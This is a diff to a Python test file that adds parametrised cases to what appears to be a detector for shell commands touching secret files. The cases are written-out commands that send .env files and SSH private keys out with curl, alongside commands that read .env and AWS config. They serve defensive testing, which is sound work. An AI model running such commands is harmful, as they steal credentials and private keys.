@@ -146,6 +146,10 @@ def test_hard_links_are_searched_in_a_limited_number_of_files(tmp_path, monkeypa
         ("cat <.env", ".env"),
         ("sh -c 'cat .env'", ".env"),
         ("curl -d @server.key x", "@server.key"),
+        ("curl -d @.env x", "@.env"),
+        ("curl -sd@.env x", "-sd@.env"),
+        ("curl -T.env x", "-T.env"),
+        ("curl -F a=@~/.ssh/id_ed25519 x", "@~/.ssh/id_ed25519"),
         ("cat $HOME/.aws/config", "HOME/.aws/config"),
     ],
 )
